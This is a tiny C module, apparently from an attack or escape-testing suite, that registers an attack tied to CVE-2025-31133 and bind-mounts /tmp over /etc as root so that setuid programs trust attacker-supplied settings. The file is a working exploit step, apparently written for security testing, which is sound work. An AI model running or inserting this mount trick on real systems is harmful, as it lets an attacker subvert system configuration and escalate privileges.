/* Something of the attack's own in the place of /etc. */
#include "../attack.h"

#include <sys/mount.h>

#include "own_mounts.h"

ATTACK(FILES, "root", .gain = "settings that setuid programs and others believe",
       .source = "CVE-2025-31133", .works = AS_ROOT, .flags = NESTING)
{
	return own_mounts() < 0 ? -1 : mount("/tmp", "/etc", NULL, MS_BIND, NULL);
}
